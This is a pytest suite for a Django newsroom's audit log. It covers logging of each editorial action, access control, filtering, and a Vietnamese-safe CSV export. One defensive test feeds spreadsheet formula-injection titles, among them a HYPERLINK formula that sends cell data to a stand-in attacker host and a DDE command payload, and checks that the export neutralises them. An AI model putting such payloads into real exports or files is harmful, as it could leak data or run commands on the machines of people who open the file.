import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from reversion.models import Version

from articles import publishing, revisions
from articles.models import Article
from editorial import audit as audit_csv
from editorial import previews
from newsroom import audit
from newsroom.models import AuditEntry
from photos import clearance
from photos.models import Photo
from tests.articles.factories import ArticleFactory, SectionFactory
from tests.editorial.article_form import admin_url, change_url, form_data
from tests.photos.factories import PhotoFactory
from tests.queries import count_queries

pytestmark = pytest.mark.django_db

Action = AuditEntry.Action
EXPORT = "/admin/newsroom/auditentry/xuat-csv/"
LIST = reverse("admin:newsroom_auditentry_changelist")


def create_in_admin(client, editor):
    client.force_login(editor)
    article = ArticleFactory.build(section=SectionFactory(), slug="")
    client.post("/admin/articles/article/add/", form_data(article, loaded_version=""))
    return Article.objects.get()


def edit_in_admin(client, editor):
    article = ArticleFactory()
    client.force_login(editor)
    client.post(change_url(article), form_data(article, title="Tiêu đề đã sửa"))
    return article


def delete_in_admin(client, editor):
    article = ArticleFactory(title="Bài sẽ bị xoá")
    client.force_login(editor)
    client.post(f"/admin/articles/article/{article.pk}/delete/", {"post": "yes"})
    return None


def restore(client, editor):
    article = ArticleFactory(title="Một")
    revisions.record(article, editor, "Một")
    version = Version.objects.get_for_object(article).get()
    article.title = "Hai"
    article.save()
    publishing.restore_revision(article, version, editor)
    return article


def correct(client, editor):
    article = ArticleFactory(published=True)
    publishing.add_correction(article, editor, "Bài ghi nhầm ngày hội nghị.")
    return article


def create_preview(client, editor):
    article = ArticleFactory()
    previews.create_preview_link(article, editor)
    return article


def revoke_preview(client, editor):
    article = ArticleFactory()
    link = previews.create_preview_link(article, editor)
    previews.revoke_preview_link(link, editor)
    return article


def clear_photo(client, editor):
    photo = PhotoFactory(is_sensitive=True, sensitive_reason=Photo.SensitiveReason.MINOR)
    clearance.clear_photo(photo, editor)
    return None


def step(name, **state):
    def run(client, editor):
        article = ArticleFactory(**state)
        action = {
            "submit": lambda: publishing.submit(article, editor),
            "return": lambda: publishing.return_to_author(article, editor, "Thiếu số liệu."),
            "publish": lambda: publishing.publish(article, editor),
            "schedule": lambda: publishing.schedule(
                article, editor, timezone.now() + dt.timedelta(days=1)
            ),
            "unpublish": lambda: publishing.unpublish(article, editor),
        }[name]
        action()
        return article

    return run


CASES = {
    Action.CREATED: create_in_admin,
    Action.EDITED: edit_in_admin,
    Action.SUBMITTED: step("submit"),
    Action.RETURNED: step("return", in_review=True),
    Action.PUBLISHED: step("publish"),
    Action.SCHEDULED: step("schedule"),
    Action.UNPUBLISHED: step("unpublish", published=True),
    Action.RESTORED: restore,
    Action.CORRECTED: correct,
    Action.DELETED: delete_in_admin,
    Action.PHOTO_CLEARED: clear_photo,
    Action.PREVIEW_CREATED: create_preview,
    Action.PREVIEW_REVOKED: revoke_preview,
}


def test_every_action_has_a_test():
    assert set(CASES) == set(Action)


@pytest.mark.parametrize("action", list(CASES), ids=str)
def test_each_action_lands_in_the_audit_log(action, client, editor):
    article = CASES[action](client, editor)
    entry = AuditEntry.objects.filter(action=action).get()
    assert entry.actor == editor
    assert entry.actor_name == "Văn An Nguyễn"
    if article is not None:
        assert entry.article_id == article.pk
        assert entry.article_repr == Article.objects.get(pk=article.pk).title


def test_an_entry_outlives_its_article(client, editor):
    delete_in_admin(client, editor)
    entry = AuditEntry.objects.get(action=Action.DELETED)
    assert entry.article is None
    assert entry.article_repr == "Bài sẽ bị xoá"


def test_a_refused_step_leaves_no_entry(editor):
    article = ArticleFactory(lead="")
    with pytest.raises(publishing.WorkflowError):
        publishing.publish(article, editor)
    assert not AuditEntry.objects.exists()


def test_an_edit_names_the_changed_fields(client, editor):
    edit_in_admin(client, editor)
    entry = AuditEntry.objects.get(action=Action.EDITED)
    assert entry.details["đã sửa"] == ["Tiêu đề"]


# --- The admin ------------------------------------------------------------------------


def test_editors_read_the_log(client, editor):
    audit.record(Action.PUBLISHED, editor, ArticleFactory(title="Hội nghị Cụm thi đua số 5"))
    client.force_login(editor)
    response = client.get("/admin/newsroom/auditentry/")
    assert response.status_code == 200
    assert "Hội nghị Cụm thi đua số 5" in response.content.decode()


def test_reporters_do_not_read_the_log(client, reporter):
    client.force_login(reporter)
    assert client.get("/admin/newsroom/auditentry/").status_code == 403
    assert client.get(EXPORT).status_code == 403


def test_the_log_cannot_be_written_in_the_admin(client, editor):
    entry = audit.record(Action.PUBLISHED, editor, ArticleFactory())
    client.force_login(editor)
    assert client.get("/admin/newsroom/auditentry/add/").status_code == 403
    response = client.post(f"/admin/newsroom/auditentry/{entry.pk}/delete/", {"post": "yes"})
    assert response.status_code == 403
    assert AuditEntry.objects.filter(pk=entry.pk).exists()


def test_the_log_filters_by_action(client, editor):
    audit.record(Action.PUBLISHED, editor, ArticleFactory(title="Bài được đăng"))
    audit.record(Action.SUBMITTED, editor, ArticleFactory(title="Bài gửi duyệt"))
    client.force_login(editor)
    html = client.get("/admin/newsroom/auditentry/", {"action__exact": "published"}).content
    assert "Bài được đăng" in html.decode()
    assert "Bài gửi duyệt" not in html.decode()


def test_the_log_searches_titles(client, editor):
    audit.record(Action.PUBLISHED, editor, ArticleFactory(title="Công an Hà Tĩnh"))
    audit.record(Action.PUBLISHED, editor, ArticleFactory(title="Công an Nghệ An"))
    client.force_login(editor)
    html = client.get("/admin/newsroom/auditentry/", {"q": "Hà Tĩnh"}).content.decode()
    assert "Công an Hà Tĩnh" in html
    assert "Công an Nghệ An" not in html


def read_csv(response):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_export_opens_with_vietnamese_intact(client, editor):
    audit.record(
        Action.PUBLISHED, editor, ArticleFactory(title="Đồng chí Đại tá Hồ Văn Tứ dự hội nghị")
    )
    client.force_login(editor)
    response = client.get(EXPORT)
    raw, rows = read_csv(response)
    assert raw.startswith(b"\xef\xbb\xbf")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert rows[0] == audit_csv.CSV_HEADER
    assert rows[1][1] == "Văn An Nguyễn"
    assert rows[1][3] == "Đăng bài"
    assert rows[1][4] == "Đồng chí Đại tá Hồ Văn Tứ dự hội nghị"


def test_csv_export_follows_the_list_filters(client, editor):
    audit.record(Action.PUBLISHED, editor, ArticleFactory(title="Bài được đăng"))
    audit.record(Action.SUBMITTED, editor, ArticleFactory(title="Bài gửi duyệt"))
    client.force_login(editor)
    _, rows = read_csv(client.get(EXPORT, {"action__exact": "submitted"}))
    assert [row[4] for row in rows[1:]] == ["Bài gửi duyệt"]


def test_the_list_links_to_the_export_with_its_filters(client, editor):
    client.force_login(editor)
    html = client.get("/admin/newsroom/auditentry/", {"action__exact": "published"}).content
    assert f'href="{EXPORT}?action__exact=published"' in html.decode()


def test_history_and_preview_tools_are_on_the_change_form(client, editor):
    article = ArticleFactory(published=True)
    client.force_login(editor)
    html = client.get(change_url(article)).content.decode()
    for url in ["revisions", "preview_links", "correction"]:
        assert f'href="{admin_url(url, article)}"' in html


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")',
        "+cmd|'/c calc'!A1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
    ],
)
def test_csv_export_never_hands_a_spreadsheet_a_formula(title, client, editor, reporter):
    # A reporter types the title; the editor opens the export in a spreadsheet program.
    audit.record(Action.CREATED, reporter, ArticleFactory(title=title))
    client.force_login(editor)

    _, rows = read_csv(client.get(EXPORT))

    cell = rows[1][4]
    assert cell[0] not in "=+-@\t\r"
    assert cell.endswith(title.strip())


def logged_edits(count, editor):
    for _ in range(count):
        audit.record(Action.EDITED, editor, ArticleFactory(), fields=["title"])


def test_the_log_list_queries_do_not_grow_with_entries(client, editor, django_assert_num_queries):
    client.force_login(editor)
    logged_edits(1, editor)
    client.get(LIST)  # warm up session and content types
    baseline = count_queries(lambda: client.get(LIST))
    logged_edits(19, editor)
    with django_assert_num_queries(baseline):
        response = client.get(LIST)
    assert response.content.decode().count("Sửa bài</td>") == 20
